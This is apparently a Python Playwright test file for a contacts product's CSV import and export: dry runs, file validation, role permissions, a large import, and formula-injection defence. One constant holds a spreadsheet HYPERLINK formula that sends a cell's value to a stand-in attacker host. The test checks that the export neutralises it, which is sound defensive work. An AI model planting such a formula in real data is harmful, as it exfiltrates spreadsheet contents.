"""Contacts into the product and out of it, as CSV files."""

import csv
import io
import time
from pathlib import Path

import pytest
from playwright.async_api import FilePayload, expect

from tests.browser.test_contacts import MARIA, lists, row, three
from tests.fixtures.browser import Team, Window
from tests.fixtures.waiting import until

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


async def choose(window: Window, content: str, name: str = "people.csv", kind: str = "text/csv") -> None:
    await put(window, FilePayload(name=name, mimeType=kind, buffer=content.encode()))


async def put(window: Window, file: FilePayload) -> None:
    await window.page.locator("input[type=file]").set_input_files(file)


async def downloaded(window: Window, press: str) -> list[list[str]]:
    async with window.page.expect_download() as waiting:
        await window.page.get_by_role("link", name=press).click()
    path = await (await waiting.value).path()
    return list(csv.reader(io.StringIO(Path(path).read_text("utf-8-sig"))))


async def test_a_dry_run_says_what_the_import_then_does(team: Team) -> None:
    """UX 82: new, updated and rejected; the errors by line; the rejected lines as a file."""
    await three(team)
    mia = await team.window("mia", "/contacts")
    page = mia.page
    await page.get_by_role("link", name="Import CSV").click()
    await choose(
        mia, f"Who,Cell,Shoe size\nMaria Garcia-Lopez,{MARIA},38\nEmma Novak,(202) 555-0150,40\nNobody,12,41\nNoah Petrov,2025550151,42\n"
    )
    await expect(page.get_by_label("What Cell is")).to_have_value("mobile")
    await expect(page.get_by_role("row", name="Shoe size")).to_contain_text("38")
    await page.get_by_label("What Who is").select_option("Name")
    await page.get_by_label("What Shoe size is").select_option("Leave out")
    sums = page.get_by_role("region", name="Dry run")
    await expect(sums).to_have_text("2 new, 1 updated, 1 rejected")
    await expect(page.get_by_role("region", name="Rejected lines")).to_contain_text("Line 4, Cell:")
    rejected = await downloaded(mia, "Download the line")
    assert (rejected[0][:3], rejected[1][:2]) == (["Who", "Cell", "Shoe size"], ["Nobody", "12"])
    assert rejected[0][-1] == "why"
    await page.get_by_label("Skip the line").check()
    await expect(sums).to_have_text("2 new, 0 updated, 1 skipped, 1 rejected")
    await page.get_by_label("Update that contact").check()
    await expect(sums).to_have_text("2 new, 1 updated, 1 rejected")
    await page.get_by_role("button", name="Import 3 contacts").click()
    await expect(page.get_by_text("Done. 2 new, 1 updated, 1 rejected", exact=True)).to_be_visible()
    await page.get_by_role("link", name="Go to contacts").click()
    await until(lists(mia, "Emma Novak", "Maria Garcia-Lopez", "Noah Petrov", "Omar Haddad", "Wei Chen"))


async def test_what_is_no_csv_is_refused_in_words(team: Team) -> None:
    mia = await team.window("mia", "/contacts/import")
    page = mia.page
    await choose(mia, "x", "photo.heic", "image/heic")
    await expect(page.get_by_role("alert").filter(has_text="photo.heic is no CSV file")).to_be_visible()
    await put(mia, FilePayload(name="a.csv", mimeType="text/csv", buffer="Näme,Phone\n".encode("latin-1")))
    await expect(page.get_by_role("alert").filter(has_text="UTF-8")).to_be_visible()
    await expect(page.get_by_role("button", name="Import", exact=True)).to_be_disabled()
    await page.get_by_role("button", name="Another file").click()
    await choose(mia, "Name,Phone,Phone 2\nMaria,2025550143,2025550144\n")
    await page.get_by_label("What Phone is", exact=True).select_option("Leave out")
    await page.get_by_label("What Phone 2 is").select_option("Leave out")
    await expect(page.get_by_text("Say which column holds the number.")).to_be_visible()


async def test_an_agent_may_not_import(team: Team) -> None:
    ana = await team.window("ana", "/contacts")
    await expect(ana.page.get_by_role("link", name="Import CSV")).to_have_count(0)
    await expect(ana.page.get_by_role("link", name="Export")).to_have_count(0)
    await ana.page.goto("/contacts/import")
    await expect(ana.page.locator(".notice-status")).to_have_text("403")


@pytest.mark.alone
async def test_ten_thousand_rows_are_imported_while_texts_arrive_in_time_and_the_page_may_be_left(team: Team) -> None:
    """UX 82: a text is in Ben's list within a second all the while; the progress is there again when one comes back."""
    await team.talk("Maria Garcia", MARIA, to=team.own)
    ben = await team.window("ben")
    await expect(ben.row("Maria Garcia")).to_be_visible()
    mia = await team.window("mia", "/contacts/import")
    page = mia.page
    await choose(mia, "Name,Phone\n" + "".join(f"Person {n:05},+1303{5550000 + n}\n" for n in range(10_000)))
    await expect(page.get_by_role("region", name="Dry run")).to_have_text("10,000 new, 0 updated, 0 rejected", timeout=20_000)
    await page.get_by_role("button", name="Import 10,000 contacts").click()
    await expect(page.get_by_role("progressbar", name="Import")).to_be_visible()
    address = page.url
    await page.get_by_role("link", name="Go to contacts").click()
    took = []
    for n in range(5):
        begun = time.monotonic()
        await team.text(MARIA, f"Text {n}", to=team.own)
        await expect(ben.row("Maria Garcia")).to_contain_text(f"Text {n}")
        took.append(time.monotonic() - begun)
    assert sorted(took)[-2] < 1, took
    await mia.go(address)
    await expect(page.get_by_text("Done. 10,000 new, 0 updated, 0 rejected", exact=True)).to_be_visible(timeout=60_000)
    await page.get_by_role("link", name="Go to contacts").click()
    await expect(page.get_by_text("More than 10,000 contacts")).to_be_visible()


async def test_an_exported_name_that_is_a_formula_runs_in_no_spreadsheet(team: Team) -> None:
    """UX 83; the export has the filter of the page, or what was picked."""
    await three(team)
    await team.contact(HOSTILE, "+12025550150", ready=True)
    mia = await team.window("mia", "/contacts?ready=true")
    await expect(row(mia, "HYPERLINK")).to_be_visible()
    exported = await downloaded(mia, "Export")
    names = [line[exported[0].index("Name")] for line in exported[1:]]
    assert names == [f"'{HOSTILE}", "Maria Garcia", "Omar Haddad"]
    await mia.page.get_by_label("Select Omar Haddad").check()
    await mia.page.get_by_label("What to do").select_option("Export")
    exported = await downloaded(mia, "Export 1 contact")
    assert [line[0] for line in exported[1:]] == ["Omar Haddad"]
